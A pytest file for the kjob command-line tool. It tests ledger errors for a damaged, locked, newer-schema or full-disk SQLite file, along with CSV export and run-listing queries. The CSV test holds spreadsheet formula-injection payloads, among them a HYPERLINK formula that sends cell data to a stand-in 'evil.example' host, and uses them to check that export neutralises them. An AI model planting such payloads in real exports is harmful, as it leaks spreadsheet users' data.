"""A ledger that is damaged, locked, full or newer than this kjob: one line and a documented exit
code, never a traceback, and nothing written where nothing may be. Also what `kjob runs --export
csv` must not write (formulas). Real SQLite files, real second processes, the real `kjob` command."""

import csv
import io
import os
import shutil
import sqlite3
import subprocess
import sys
from pathlib import Path

import pytest

from kjob.runs.ledger import Ledger
from kjob.runs.record import RunNotes, RunStatus

KJOB = Path(sys.executable).with_name("kjob")


def ledger_path(ws) -> Path:
    return ws.root / ".kjob/ledger.sqlite3"


def error_line(result) -> str:
    """The one `error:` line of a command (other notes may come before it)."""
    assert "Traceback" not in result.output
    errors = [line for line in result.stderr.splitlines() if line.startswith("error:")]
    assert len(errors) == 1, result.stderr
    return errors[0]


def record_runs(ws, count: int, kernel: str = "tiny") -> None:
    with Ledger(ledger_path(ws)) as ledger:
        for i in range(count):
            run = ledger.record(kernel=kernel, backend="local", version=i + 1, notebook_sha256="0" * 64,
                                parameters={"steps": i, "label": "x" * 40}, git_commit=None, git_dirty=None,
                                handle={})
            ledger.update(run, RunStatus("complete"))


def damage_inside(path: Path) -> None:
    """Overwrite the cell pointers of every page in the second half of the file: the header
    (page 1) stays whole, so SQLite opens the file and fails only when it reads those pages."""
    page = 4096
    pages = path.stat().st_size // page
    with path.open("r+b") as f:
        for number in range(pages // 2, pages):
            f.seek(number * page + 8)
            f.write(b"\xff" * 64)


# -- damaged ---------------------------------------------------------------------------------


@pytest.mark.parametrize("command", [["runs"], ["status"], ["push", "tiny"]])
def test_a_ledger_damaged_inside_is_one_line_saying_how_to_check_and_recover(tiny, command):
    record_runs(tiny, 300)
    damage_inside(ledger_path(tiny))
    result = tiny.kjob(*command)
    assert result.exit_code == 2, result.output
    line = error_line(result)
    assert "run ledger ledger.sqlite3: it is damaged (database disk image is malformed)" in line
    assert '`sqlite3 .kjob/ledger.sqlite3 "PRAGMA integrity_check"`' in line
    assert ".recover" in line and "move .kjob/ledger.sqlite3 aside" in line
    assert not (tiny.root / ".kjob/local").exists()  # nothing was run


# -- locked ----------------------------------------------------------------------------------

HOLDER = """
import sqlite3, sys, time
db = sqlite3.connect(sys.argv[1], isolation_level=None)
db.execute("BEGIN EXCLUSIVE")
print("locked", flush=True)
time.sleep(60)
"""


def test_a_ledger_locked_past_the_timeout_names_its_holder(tiny):
    record_runs(tiny, 3)
    holder = subprocess.Popen([sys.executable, "-c", HOLDER, str(ledger_path(tiny))], stdout=subprocess.PIPE,
                              text=True)
    try:
        assert holder.stdout.readline().strip() == "locked"
        result = tiny.kjob("push", "tiny", env={"KJOB_LEDGER_TIMEOUT": "0.3"})
        assert result.exit_code == 8, result.output
        line = error_line(result)
        assert "the run ledger ledger.sqlite3 is locked by process" in line
        if Path("/proc/locks").exists():
            assert f"process {holder.pid} (" in line
        assert "waited 0.3 s (database is locked)" in line and "KJOB_LEDGER_TIMEOUT" in line
        listing = tiny.kjob("runs", env={"KJOB_LEDGER_TIMEOUT": "0.3"})  # readers are not held up (WAL)
        assert listing.exit_code == 0 and "tiny" in listing.stdout
    finally:
        holder.kill()
        holder.wait()
    assert not (tiny.root / ".kjob/local").exists()
    with Ledger(ledger_path(tiny)) as ledger:
        assert len(ledger.runs()) == 3  # the refused push left no row


def test_the_ledger_timeout_knob_is_checked(tiny):
    result = tiny.kjob("status", env={"KJOB_LEDGER_TIMEOUT": "soon"})
    assert result.exit_code == 2
    assert "KJOB_LEDGER_TIMEOUT='soon': expected a number of seconds" in error_line(result)


# -- newer schema ----------------------------------------------------------------------------


@pytest.mark.parametrize("command", [["push", "tiny"], ["runs"], ["status"]])
def test_a_ledger_of_a_newer_schema_is_refused_and_left_untouched(tiny, command):
    record_runs(tiny, 2)
    path = ledger_path(tiny)
    db = sqlite3.connect(path)
    db.execute("PRAGMA user_version=6")
    db.execute("PRAGMA journal_mode=DELETE")  # as a newer kjob may leave it: the switch to WAL would write
    db.close()
    before = {p.name: p.read_bytes() for p in path.parent.iterdir() if p.is_file()}
    result = tiny.kjob(*command)
    assert result.exit_code == 2, result.output
    assert error_line(result) == ("error: the ledger was written by a newer kjob (schema 6; this kjob knows 5): "
                                  "upgrade kjob")
    after = {p.name: p.read_bytes() for p in path.parent.iterdir() if p.is_file()}
    assert after == before
    assert not (tiny.root / ".kjob/local").exists()


# -- full disk -------------------------------------------------------------------------------


def small_disk_works() -> bool:
    if not shutil.which("unshare"):
        return False
    probe = subprocess.run(["unshare", "-Urm", "sh", "-c", "mount -t tmpfs -o size=64k tmpfs /mnt"],
                           capture_output=True)
    return probe.returncode == 0


FULL_SCRIPT = """
set -e
mount -t tmpfs -o size=128k tmpfs .kjob
cp ledger.copy .kjob/ledger.sqlite3
{fill}
"$KJOB" {command} 2>err.txt >out.txt && echo 0 > rc.txt || echo $? > rc.txt
"""


@pytest.mark.skipif(not small_disk_works(), reason="needs unshare -Urm to mount a small tmpfs")
@pytest.mark.parametrize("when", ["writing", "opening"])
def test_a_full_disk_under_the_ledger_is_exit_8_and_keeps_what_it_held(tiny, when):
    """A 128 KiB tmpfs mounted over .kjob (in a user namespace): a 100 KB note cannot be
    written (SQLITE_FULL), and with the disk filled up first not even the WAL index fits."""
    record_runs(tiny, 3)
    with Ledger(ledger_path(tiny)) as ledger:
        ledger.set_note(ledger.find("tiny", 1), "kept")
    shutil.copy(ledger_path(tiny), tiny.root / "ledger.copy")
    command = 'runs note tiny "$("$PY" -c "print(\'x\' * 100000)")" --version 2'
    fill = "dd if=/dev/zero of=.kjob/filler bs=4k count=100 2>/dev/null || true" if when == "opening" else ""
    script = FULL_SCRIPT.format(fill=fill, command=command)
    env = {**os.environ, "KJOB": str(KJOB), "PY": sys.executable}
    subprocess.run(["unshare", "-Urm", "sh", "-c", script], cwd=tiny.root, env=env, check=True)
    assert (tiny.root / "rc.txt").read_text().strip() == "8"
    errors = (tiny.root / "err.txt").read_text().splitlines()
    assert len(errors) == 1 and "Traceback" not in errors[0], errors
    assert errors[0].startswith("error: cannot ")
    assert ": the disk is full (" in errors[0] and "free some space" in errors[0]
    assert "aside" not in errors[0]  # a healthy ledger is not to be moved aside
    with Ledger(tiny.root / "ledger.copy") as ledger:  # what it held before is still there, readable
        assert ledger.find("tiny", 1).note == "kept"


# -- CSV export ------------------------------------------------------------------------------


def test_csv_export_does_not_write_formulas(tiny):
    hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "\tTAB", "\rCR"]
    with Ledger(ledger_path(tiny)) as ledger:
        for i, text in enumerate(hostile, 1):
            run = ledger.record(kernel="tiny", backend="local", version=i, notebook_sha256="0" * 64,
                                parameters={"lr": -0.5, "name": text}, git_commit=None, git_dirty=None, handle={})
            ledger.set_note(run, text)
            ledger.set_metrics(run, {"delta": -0.25, "when": "-3"})
        ledger.begin(kernel="tiny", backend="local", notebook_sha256="0" * 64, parameters={}, git_commit=None,
                     git_dirty=None, token="t", notes=RunNotes(message="=1+2"))
    result = tiny.kjob("runs", "--export", "csv")
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.stdout, newline="")))
    assert {r["note"] for r in rows if r["note"]} == {"'" + text for text in hostile}
    assert {r["param.name"] for r in rows if r["param.name"]} == {"'" + text for text in hostile}
    assert [r["message"] for r in rows if r["message"]] == ["'=1+2"]
    assert {r["param.lr"] for r in rows if r["param.lr"]} == {"-0.5"}  # numbers stay numbers
    assert {r["metric.delta"] for r in rows if r["metric.delta"]} == {"-0.25"}
    assert {r["metric.when"] for r in rows if r["metric.when"]} == {"-3"}  # a number written as text too
    for row in csv.reader(io.StringIO(result.stdout, newline="")):
        assert not any(cell[:1] in ("=", "+", "@", "\t", "\r") for cell in row)
    named = tiny.kjob("runs", "--export", "csv", "--columns", "note,lr")
    assert "'=HYPERLINK(" in named.stdout and ",-0.5" in named.stdout
    exported = tiny.kjob("runs", "--export", "json")
    assert '"note": "=HYPERLINK(' in exported.stdout  # JSON keeps the text as it is


# -- kjob runs: SQL over what is shown ---------------------------------------------------------


@pytest.fixture
def varied(tiny):
    """130 runs of two kernels whose values take every shape a listing meets: numbers, text,
    true/false, lists, missing ones, a metric in several sources and in one kjob does not name,
    archived and tagged runs."""
    import random

    rng = random.Random(7)
    with Ledger(ledger_path(tiny)) as ledger:
        for i in range(130):
            kernel = "alpha" if i % 3 else "beta"
            parameters = {"lr": rng.choice([0.1, 0.01, 0.001, 1]), "label": rng.choice(["a", "b", "B", "é"])}
            if i % 5 == 0:
                parameters["flag"] = bool(i % 2)
            if i % 7 == 0:
                parameters["label"] = 3  # a number where others have text
            run = ledger.record(kernel=kernel, backend="local", version=i // 2 + 1 + (1000 if i % 2 else 0),
                                notebook_sha256=f"{i:064x}", parameters=parameters, git_commit=None, git_dirty=None,
                                handle={}, overrides={"lr": parameters["lr"]} if i % 4 == 0 else {})
            ledger.update(run, RunStatus(rng.choice(["complete", "error", "cancelled"])))
            if i % 6:
                ledger.set_metrics(run, {"acc": round(rng.uniform(0, 1), 3), "loss.best": rng.uniform(0, 2),
                                         "grade": rng.choice(["x", "y", 2])})
            if i % 4 == 0:
                ledger.set_metrics(run, {"acc": 0.5, "sisdr": rng.uniform(-5, 5)}, source="evaluation")
            if i % 11 == 0:
                ledger.set_metrics(run, {"odd_one": 1.0, "acc": 2.0}, source="zcustom")
            if i % 9 == 0:
                ledger.change_tags(run, add=("keep",))
            if i % 13 == 0:
                ledger.set_archived(run, True)
            if i % 10 == 0:
                ledger.set_note(run, f"note {i % 3}")
    return tiny


QUERIES = [
    dict(), dict(sort_by="acc"), dict(sort_by="-acc"), dict(sort_by="+acc,-lr"), dict(sort_by="loss"),
    dict(sort_by="grade"), dict(sort_by="-label"), dict(sort_by="flag,-version"), dict(sort_by="version"),
    dict(sort_by="sisdr"), dict(sort_by="odd_one"), dict(sort_by="note,created"), dict(sort_by="-status,kernel"),
    dict(where=("lr<0.05",)), dict(where=("lr>=0.01", "acc>0.3"), sort_by="acc"), dict(where=("label=b",)),
    dict(where=("label!=b",), sort_by="label"), dict(where=("flag=true",)), dict(where=("grade=x",)),
    dict(where=("status=complete", "kernel=beta"), sort_by="-created"), dict(where=("version>1000",)),
    dict(tags=("keep",), sort_by="acc"), dict(archived=True, sort_by="-acc"), dict(kernel="beta", sort_by="lr"),
    dict(where=("note=note 1",)), dict(where=("metric.acc<0.5",), sort_by="param.lr"),
    dict(where=("acc<0.5",), sort_by="nothing"), dict(where=("label<x",)), dict(where=("flag<1",)),
    dict(where=("lr=tiny",)), dict(sort_by="tags"), dict(where=("tags=keep",), archived=True),
    dict(sort_by="duration"), dict(where=("created>2020-01-01",), sort_by="-finished"),
    dict(where=("loss<1",), sort_by="-loss,acc"), dict(where=("loss>5",)), dict(sort_by="loss.best"),
]


def outcome(ws, query):
    from kjob.runs import query as rq
    from kjob.errors import UsageError
    from kjob.workspace import find_workspace

    try:
        return rq.select_runs(find_workspace(ws.root), query)
    except UsageError as exc:
        return str(exc)


@pytest.mark.parametrize("limit", [None, 7])
def test_the_listing_in_sql_ranks_and_filters_as_python_does(varied, limit):
    """Every query gives the runs, order, count and errors that kjob's rules give when applied in
    Python to every decoded run (kjob.runs.query.select_in_python, the listing before SQL)."""
    from kjob.runs import query as rq
    from kjob.workspace import find_workspace

    ws = find_workspace(varied.root)
    for spec in QUERIES:
        query = rq.RunQuery(**spec, limit=limit)
        with Ledger(ledger_path(varied)) as ledger:
            try:
                expected = rq.select_in_python(ws, ledger, query)
            except Exception as exc:  # noqa: BLE001 - the same error is expected
                expected = str(exc)
        got = outcome(varied, query)
        if isinstance(expected, str):
            assert got == expected, spec
            continue
        assert not isinstance(got, str), (spec, got)
        assert [r.id for r in got.runs] == [r.id for r in expected.runs], spec
        assert (got.more, got.hidden, got.sort_fields) == (expected.more, expected.hidden, expected.sort_fields), spec
        assert got.meant == expected.meant, spec  # `loss` for `loss.best`: the same note either way


def test_runs_shows_50_unless_told_and_says_how_many_more(varied):
    result = varied.kjob("runs")
    assert result.exit_code == 0, result.output
    assert len(result.stdout.splitlines()) == 1 + 50
    hidden = sum(1 for i in range(130) if i % 13 == 0)
    assert f"{130 - hidden - 50} more: --all or --limit N" in result.stderr
    assert f"note: {hidden} archived run(s) not shown" in result.stderr
    assert len(varied.kjob("runs", "--limit", "5").stdout.splitlines()) == 1 + 5
    everything = varied.kjob("runs", "--all")
    assert len(everything.stdout.splitlines()) == 1 + 130 - hidden and "more:" not in everything.stderr
    exported = varied.kjob("runs", "--export", "csv")
    assert len(list(csv.reader(io.StringIO(exported.stdout, newline="")))) == 1 + 130 - hidden
    top = varied.kjob("runs", "--sort-by", "-acc", "--limit", "3", "--columns", "acc,lr")
    ranked = varied.kjob("runs", "--sort-by", "-acc", "--all", "--columns", "acc,lr")
    assert top.stdout.splitlines() == ranked.stdout.splitlines()[:4]
    both = varied.kjob("runs", "--all", "--limit", "3")
    assert both.exit_code == 2 and "--all and --limit N" in error_line(both)
